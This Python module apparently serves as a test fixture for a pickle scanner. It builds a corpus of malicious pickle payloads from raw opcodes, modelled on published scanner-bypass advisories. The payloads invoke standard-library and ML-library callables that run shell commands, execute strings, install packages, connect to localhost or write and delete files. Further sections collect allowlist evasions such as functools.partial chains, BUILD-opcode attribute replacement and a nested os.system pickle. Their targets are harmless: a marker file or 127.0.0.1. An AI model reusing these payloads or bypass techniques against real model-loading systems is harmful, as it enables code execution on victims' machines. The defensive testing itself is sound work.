"""Malicious pickles of the families published scanner-bypass advisories name (picklescan's,
fickling's and modelscan's GHSA reports, 2025-2026): each invokes, while it loads, a callable
outside the usual denylists that runs a command, executes a string, installs a package, opens
a connection or writes a file. Built from opcodes and never loaded.

Each payload is aimed at ``marker`` (a file it would create) or at ``127.0.0.1:port``, so a
test can show that the doctor's scan runs none of them. ``expected`` is the (module, name)
the doctor must refuse; ``family`` the advisory family it stands for.
"""

from __future__ import annotations

import shlex
from dataclasses import dataclass

from malicious_pickles import (
    EMPTY_DICT,
    MARK,
    NEWTRUE,
    NONE,
    TUPLE,
    binbytes,
    binint,
    call,
    getattr_,
    sglobal,
    text,
    wrap,
)


@dataclass(frozen=True)
class Advisory:
    name: str
    family: str
    data: bytes
    expected: tuple[str, str]


def advisory_corpus(marker: str, port: int = 9) -> list[Advisory]:
    touch = "touch " + shlex.quote(marker)
    create = f"open({marker!r}, 'w').close()"
    url = f"http://127.0.0.1:{port}/"
    entries: list[Advisory] = []

    def add(name: str, family: str, body: bytes, expected: tuple[str, str]) -> None:
        entries.append(Advisory(name, family, wrap(body), expected))

    def method_call(module: str, cls: str, method: str, *args: bytes) -> bytes:
        """getattr(module.cls(), method)(*args): a method of an object made while loading."""
        return call(getattr_(call(sglobal(module, cls)), method), *args)

    commands = "stdlib helpers that run a command"
    add("uuid_get_command_stdout", commands,
        call(sglobal("uuid", "_get_command_stdout"), text("sh"), text("-c"), text(touch)),
        ("uuid", "_get_command_stdout"))
    add("osx_support_read_output", commands, call(sglobal("_osx_support", "_read_output"), text(touch)),
        ("_osx_support", "_read_output"))
    add("osx_support_find_build_tool", commands, call(sglobal("_osx_support", "_find_build_tool"), text(touch)),
        ("_osx_support", "_find_build_tool"))
    add("aix_support_read_cmd_output", commands, call(sglobal("_aix_support", "_read_cmd_output"), text(touch)),
        ("_aix_support", "_read_cmd_output"))
    add("pyrepl_pager_pipe_pager", commands,
        call(sglobal("_pyrepl.pager", "pipe_pager"), text("x"), text(touch)), ("_pyrepl.pager", "pipe_pager"))
    add("imaplib_imap4_stream", commands, call(sglobal("imaplib", "IMAP4_stream"), text(touch)),
        ("imaplib", "IMAP4_stream"))
    add("test_support_assert_python_ok", commands,
        call(sglobal("test.support.script_helper", "assert_python_ok"), text("-c"), text(create)),
        ("test.support.script_helper", "assert_python_ok"))
    add("distutils_spawn", commands, call(sglobal("distutils.spawn", "spawn"), MARK + text("sh") + text("-c")
                                          + text(touch) + b"l"), ("distutils.spawn", "spawn"))

    strings = "profilers, tracers and debuggers that execute a string"
    add("profile_profile_run", strings, method_call("profile", "Profile", "run", text(create)), ("profile", "Profile"))
    add("profile_run", strings, call(sglobal("profile", "run"), text(create)), ("profile", "run"))
    add("cprofile_runctx", strings, call(sglobal("cProfile", "runctx"), text(create), EMPTY_DICT, EMPTY_DICT),
        ("cProfile", "runctx"))
    add("trace_trace_run", strings, method_call("trace", "Trace", "run", text(create)), ("trace", "Trace"))
    add("timeit_timeit", strings, call(sglobal("timeit", "timeit"), text(create), text("pass"), EMPTY_DICT),
        ("timeit", "timeit"))
    add("pdb_run", strings, call(sglobal("pdb", "run"), text(create)), ("pdb", "run"))
    add("bdb_bdb_run", strings, method_call("bdb", "Bdb", "run", text(create)), ("bdb", "Bdb"))
    add("doctest_debug_script", strings, call(sglobal("doctest", "debug_script"), text(create)),
        ("doctest", "debug_script"))
    add("numpy_testing_runstring", strings,
        call(sglobal("numpy.testing._private.utils", "runstring"), text(create), EMPTY_DICT),
        ("numpy.testing._private.utils", "runstring"))

    installers = "package installers"
    add("pip_main", installers, call(sglobal("pip", "main"), MARK + text("install") + text(marker) + b"l"),
        ("pip", "main"))
    add("pip_internal_main", installers,
        call(sglobal("pip._internal.cli.main", "main"), MARK + text("install") + text(marker) + b"l"),
        ("pip._internal.cli.main", "main"))
    add("ensurepip_run_pip", installers,
        call(sglobal("ensurepip", "_run_pip"), MARK + text("install") + text(marker) + b"l"), ("ensurepip", "_run_pip"))

    network = "network clients"
    add("requests_api_get", network, call(sglobal("requests.api", "get"), text(url)), ("requests.api", "get"))
    add("requests_session_get", network, method_call("requests.sessions", "Session", "get", text(url)),
        ("requests.sessions", "Session"))
    add("xmlrpc_server_proxy", network,
        call(getattr_(call(sglobal("xmlrpc.client", "ServerProxy"), text(url)), "ping")),
        ("xmlrpc.client", "ServerProxy"))
    add("torch_hub_load", network, call(sglobal("torch.hub", "load"), text("owner/repo"), text("model")),
        ("torch.hub", "load"))
    add("torch_distributed_tcpstore", network,
        call(sglobal("torch.distributed", "TCPStore"), text("127.0.0.1"), b"J" + port.to_bytes(4, "little")),
        ("torch.distributed", "TCPStore"))

    files = "handlers and archives that write files"
    add("logging_filehandler", files, call(sglobal("logging", "FileHandler"), text(marker)),
        ("logging", "FileHandler"))
    add("zipfile_zipfile_write", files, call(sglobal("zipfile", "ZipFile"), text(marker), text("w")),
        ("zipfile", "ZipFile"))
    add("tarfile_open", files, call(sglobal("tarfile", "open"), text(marker), text("w")), ("tarfile", "open"))
    add("sqlite3_connect", files, call(sglobal("sqlite3", "connect"), text(marker)), ("sqlite3", "connect"))
    add("dbm_open", files, call(sglobal("dbm", "open"), text(marker), text("c")), ("dbm", "open"))
    add("pandas_hdfstore", files, call(sglobal("pandas.io.pytables", "HDFStore"), text(marker), text("w")),
        ("pandas.io.pytables", "HDFStore"))
    add("tensorboard_summarywriter", files,
        call(sglobal("torch.utils.tensorboard.writer", "SummaryWriter"), text(marker)),
        ("torch.utils.tensorboard.writer", "SummaryWriter"))

    processes = "asyncio's subprocess transports and other process starters"
    add("asyncio_unix_subprocess_transport", processes,
        call(sglobal("asyncio.unix_events", "_UnixSubprocessTransport"), text(touch)),
        ("asyncio.unix_events", "_UnixSubprocessTransport"))
    add("multiprocessing_util_spawnv_passfds", processes,
        call(sglobal("multiprocessing.util", "spawnv_passfds"), text("/bin/sh"),
             MARK + text("sh") + text("-c") + text(touch) + b"l", b")"), ("multiprocessing.util", "spawnv_passfds"))
    add("idlelib_run", processes, call(sglobal("idlelib.pyshell", "main")), ("idlelib.pyshell", "main"))

    imports = "imports that act"
    add("subimport_antigravity", imports,
        call(sglobal("cloudpickle.cloudpickle", "subimport"), text("antigravity")), ("antigravity", "<module>"))
    add("subimport_main", imports,
        call(sglobal("cloudpickle.cloudpickle", "subimport"), text("pip.__main__")), ("pip.__main__", "<module>"))
    return entries


def evasions(marker: str) -> list[Advisory]:
    """What a cold review of the allowlist got past it (each passed the doctor before its fix): allowed
    callables that call their arguments, library classes that act when made, nested pickles a library
    loads, and imports that act. Opcodes only; never loaded."""
    touch = "touch " + shlex.quote(marker)
    create = f"open({marker!r}, 'w').close()"
    command = MARK + text("sh") + text("-c") + text(touch) + TUPLE
    run_command = sglobal("uuid", "_get_command_stdout")
    entries: list[Advisory] = []

    def add(name: str, body: bytes, expected: tuple[str, str]) -> None:
        entries.append(Advisory(name, "evasions of the allowlist", wrap(body), expected))

    add("getitem_defaultdict_partial",
        call(sglobal("operator", "getitem"),
             call(sglobal("collections", "defaultdict"),
                  call(sglobal("functools", "partial"), run_command, text("sh"), text("-c"), text(touch))),
             text("k")), ("operator", "getitem"))
    add("torch_rebuild_from_type_calls_its_function",
        call(sglobal("torch._tensor", "_rebuild_from_type_v2"), run_command, sglobal("builtins", "object"),
             command, EMPTY_DICT), ("uuid", "_get_command_stdout"))
    add("numpy_randomstate_ctor_calls_its_constructor",
        call(sglobal("numpy.random._pickle", "__randomstate_ctor"), text(create), sglobal("profile", "run")),
        ("profile", "run"))
    add("statsmodels_reexported_pool",
        call(sglobal("statsmodels.graphics.functional", "Pool"), binint(1), run_command, command),
        ("statsmodels.graphics.functional", "Pool"))
    add("joblib_unpickle_nested", call(sglobal("joblib.numpy_pickle", "_unpickle"), NONE, NEWTRUE),
        ("joblib.numpy_pickle", "_unpickle"))
    add("numpy_npzfile", call(sglobal("numpy.lib._npyio_impl", "NpzFile"), text(marker)),
        ("numpy.lib._npyio_impl", "NpzFile"))
    add("scipy_unpickle_function",
        call(call(sglobal("scipy._lib._uarray._backend", "unpickle_function"), text("os"), text("system"), NONE),
             text(touch)), ("scipy._lib._uarray._backend", "unpickle_function"))
    add("pyarrow_osfile", call(sglobal("pyarrow.lib", "OSFile"), text(marker), text("w")), ("pyarrow.lib", "OSFile"))
    add("torch_file_writer", call(sglobal("torch._C", "PyTorchFileWriter"), text(marker)),
        ("torch._C", "PyTorchFileWriter"))
    add("tensorflow_tfrecord_writer", call(sglobal("tensorflow._api.v2.io", "TFRecordWriter"), text(marker)),
        ("tensorflow._api.v2.io", "TFRecordWriter"))
    add("keras_h5_store", call(sglobal("keras.src.saving.saving_lib", "H5IOStore"), text(marker), NONE, text("w")),
        ("keras.src.saving.saving_lib", "H5IOStore"))
    add("logging_through_an_allowed_library",
        call(getattr_(getattr_(call(sglobal("cloudpickle.cloudpickle", "subimport"), text("sklearn")), "logging"),
                      "FileHandler"), text(marker)), ("sklearn.logging", "FileHandler"))
    add("referenced_global_of_a_main_module", sglobal("venv.__main__", "x"), ("venv.__main__", "<module>"))
    add("referenced_global_of_antigravity", sglobal("antigravity", "x"), ("antigravity", "<module>"))
    return entries


def second_evasions(marker: str) -> list[Advisory]:
    """What a second cold review got past the allowlist (each passed before its fix)."""
    touch = "touch " + shlex.quote(marker)
    command = call(sglobal("functools", "partial"), sglobal("uuid", "_get_command_stdout"), text("sh"), text("-c"),
                   text(touch))
    entries: list[Advisory] = []

    def add(name: str, body: bytes, expected: tuple[str, str]) -> None:
        entries.append(Advisory(name, "second evasions of the allowlist", wrap(body), expected))

    nested = wrap(call(sglobal("os", "system"), text(touch))) + b"PK\x05\x06" + b"\0" * 18  # "an empty zip" to zipfile
    add("torch_nested_pickle_behind_an_empty_zip_end",
        call(sglobal("torch.storage", "_load_from_bytes"), binbytes(nested)), ("os", "system"))
    add("cloudpickle_instance_calls_its_argument", call(sglobal("cloudpickle.cloudpickle", "instance"), command),
        ("cloudpickle.cloudpickle", "instance"))
    add("chainmap_over_defaultdict",
        call(sglobal("builtins", "dict"),
             call(sglobal("collections", "ChainMap"), call(sglobal("collections", "defaultdict"), command),
                  EMPTY_DICT)), ("uuid", "_get_command_stdout"))
    add("torch_rebuild_from_type_with_a_partial",
        call(sglobal("torch._tensor", "_rebuild_from_type_v2"), command, sglobal("builtins", "object"),
             b")", EMPTY_DICT), ("uuid", "_get_command_stdout"))
    add("a_callable_hidden_by_dup",
        call(sglobal("torch._tensor", "_rebuild_from_type_v2"), sglobal("uuid", "_get_command_stdout") + b"2" + b"0",
             sglobal("builtins", "object"), b")", EMPTY_DICT), ("uuid", "_get_command_stdout"))
    add("a_callable_hidden_in_a_list",
        call(sglobal("torch._tensor", "_rebuild_from_type_v2"),
             b"]" + MARK + sglobal("uuid", "_get_command_stdout") + b"e", sglobal("builtins", "object"), b")",
             EMPTY_DICT), ("uuid", "_get_command_stdout"))
    add("build_replaces_a_class_attribute",
        sglobal("pathlib", "PurePath") + NONE + EMPTY_DICT + text("__class_getitem__") + command + b"s" + b"\x86"
        + b"b" + b"0" + call(sglobal("operator", "getitem"), sglobal("pathlib", "PurePath"), text(touch)),
        ("<object>", "__dict__"))
    add("build_replaces_a_module_function",
        call(sglobal("cloudpickle", "subimport"), text("logging")) + NONE + EMPTY_DICT + text("getLogger") + command
        + b"s" + b"\x86" + b"b" + b"0" + call(sglobal("logging", "getLogger"), text(touch)), ("<object>", "__dict__"))
    add("function_setstate_on_a_library_function",
        call(sglobal("cloudpickle.cloudpickle", "_function_setstate"), sglobal("logging", "getLogger"),
             b"(" + EMPTY_DICT + NONE + TUPLE), ("<object>", "__dict__"))
    add("subimport_spelled_from_the_package", call(sglobal("cloudpickle", "subimport"), text("antigravity")),
        ("antigravity", "<module>"))
    add("tensorflow_gfile_delete", call(sglobal("tensorflow.compat.v1.gfile", "DeleteRecursively"), text(marker)),
        ("tensorflow.compat.v1.gfile", "DeleteRecursively"))
    add("torch_xpu_allocator_loads_a_library",
        call(sglobal("torch.xpu.memory", "XPUPluggableAllocator"), text(marker), text("a"), text("b")),
        ("torch.xpu.memory", "XPUPluggableAllocator"))
    add("keras_application_downloads", call(sglobal("keras.src.applications.resnet", "ResNet50")),
        ("keras.src.applications.resnet", "ResNet50"))
    add("polars_lazy_module", call(sglobal("polars._dependencies", "_LazyModule"), text("antigravity")),
        ("polars._dependencies", "_LazyModule"))
    add("scipy_map_wrapper_pool", call(sglobal("scipy._lib._util", "MapWrapper"), binint(4)),
        ("scipy._lib._util", "MapWrapper"))
    add("numerblox_submitter", call(sglobal("numerblox.submission", "NumeraiClassicSubmitter"), text(marker)),
        ("numerblox.submission", "NumeraiClassicSubmitter"))
    return entries
